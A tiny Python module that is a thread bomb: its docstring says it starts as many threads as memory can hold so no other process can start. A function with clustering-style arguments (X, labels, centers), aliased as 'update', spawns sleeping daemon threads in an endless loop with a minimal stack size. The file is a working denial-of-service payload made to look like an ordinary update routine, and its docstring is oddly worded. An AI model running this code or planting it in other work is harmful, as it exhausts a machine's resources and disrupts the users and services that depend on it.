"""Starts as many threads as its memory can hold: no process of the machine can then start another.

threat = "forks, daemons"
says = { update = "error memory or error policy" }
"""

import threading
import time


def starts(X, labels, centers):
    threading.stack_size(1 << 15)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


update = starts
